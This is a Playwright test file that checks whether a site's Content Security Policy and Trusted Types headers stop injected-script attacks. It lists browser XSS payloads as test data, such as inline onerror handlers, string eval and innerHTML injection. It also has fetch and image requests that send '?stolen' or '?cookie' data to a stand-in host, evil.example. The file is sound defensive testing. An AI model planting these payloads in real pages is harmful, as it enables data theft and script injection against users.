import type { Page } from '@playwright/test';
import { SHELL_HEADERS } from '../../shared/tools/compose/headers.ts';
import { expect, test } from '../../shared/testing/e2e/site.ts';

/** What somebody who got a text into the page would try next; the policy (shared/tools/compose/headers.ts) stops each. */
test.use({ expectedComplaint: /./ });

const EVIL = 'https://evil.example';

/** Each runs in the page and leaves window.harmed set if it worked. */
const ATTACKS: Record<string, { directive: string; attack: (evil: string) => void }> = {
  'an event handler in an attribute': {
    directive: 'require-trusted-types-for',
    attack: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.harmed = true');
      document.body.append(button);
      button.click();
    },
  },
  'text run as code': {
    directive: 'require-trusted-types-for',
    // oxlint-disable-next-line no-implied-eval -- the attack itself
    attack: () => void setTimeout('window.harmed = true', 0),
  },
  'a stranger’s script': {
    directive: 'require-trusted-types-for',
    attack: (evil) =>
      void document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/x.js` })),
  },
  'a stranger’s module': { directive: 'script-src', attack: (evil) => void import(`${evil}/x.js`).catch(() => {}) },
  'a stranger’s picture': { directive: 'img-src', attack: (evil) => void (new Image().src = `${evil}/x.png?cookie`) },
  'a form that posts elsewhere': {
    directive: 'form-action',
    attack: (evil) => {
      const form = Object.assign(document.createElement('form'), { action: `${evil}/x`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  'a frame': {
    directive: 'frame-src',
    attack: (evil) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/` })),
  },
  'a worker from text': {
    directive: 'require-trusted-types-for',
    attack: () => void new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
  },
  'a request that carries data away': {
    directive: 'connect-src',
    attack: (evil) => void fetch(`${evil}/?stolen`).catch(() => {}),
  },
  'HTML from text': {
    directive: 'require-trusted-types-for',
    attack: () =>
      void (document.body.appendChild(document.createElement('div')).innerHTML =
        '<img src=x onerror="window.harmed=true">'),
  },
  'another base for every link': {
    directive: 'base-uri',
    attack: (evil) => void document.head.append(Object.assign(document.createElement('base'), { href: `${evil}/` })),
  },
};

for (const [what, { directive, attack }] of Object.entries(ATTACKS)) {
  test(`${what} is stopped by ${directive}`, async ({ page }) => {
    await page.goto('/home');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const asked = requestsTo(page, EVIL);
    const stoppedBy = await runAttack(page, attack);
    expect(stoppedBy).toMatch(new RegExp(`^${directive}`));
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
    expect(asked()).toEqual([]);
  });
}

test('an inline script in the document is stopped by script-src', async ({ page }) => {
  await page.route('**/home', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({
      response: answer,
      body: (await answer.text()).replace(
        '</body>',
        '<script>window.harmed = true</script><img src="x" onerror="window.harmed = true"></body>',
      ),
    });
  });
  await page.goto('/home');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
});

test('the documents carry the policy and the other headers, exactly', async ({ request }) => {
  for (const path of ['/home', '/feed', '/login', '/nope']) {
    const { headers, policy } = await headersOf(request, path);
    expect(headers).toMatchObject(
      Object.fromEntries(Object.entries(SHELL_HEADERS).map(([name, value]) => [name.toLowerCase(), value])),
    );
    expect(policy[0]).toBe("default-src 'none'");
    const scripts = policy.find((line) => line.startsWith('script-src'))!;
    expect(scripts).toMatch(/^script-src 'self'( http:\/\/localhost:\d+){5}( 'sha256-[\w+/]{43}='){3}$/);
    expect(policy).toEqual(
      expect.arrayContaining([
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        "form-action 'self'",
      ]),
    );
    expect(policy.join()).not.toMatch(/unsafe|\*/);
  }
});

async function headersOf(request: { get(path: string): Promise<{ headers(): Record<string, string> }> }, path: string) {
  const headers = (await request.get(path)).headers();
  return { headers, policy: (headers['content-security-policy'] ?? '').split('; ') };
}

function requestsTo(page: Page, origin: string): () => string[] {
  const urls: string[] = [];
  page.on('response', (response) => response.url().startsWith(origin) && urls.push(response.url()));
  return () => urls;
}

/** Runs an attack in the page and gives the directive that stopped it. */
async function runAttack(page: Page, attack: (evil: string) => void): Promise<string> {
  await page.evaluate(() => {
    const seen = window as { stoppedBy?: string };
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => (seen.stoppedBy ??= effectiveDirective));
  });
  await page.evaluate(attack, EVIL).catch(() => {}); // Trusted Types refuse by throwing
  await expect.poll(() => page.evaluate(() => (window as { stoppedBy?: string }).stoppedBy)).toBeDefined();
  return page.evaluate(() => (window as { stoppedBy?: string }).stoppedBy!);
}
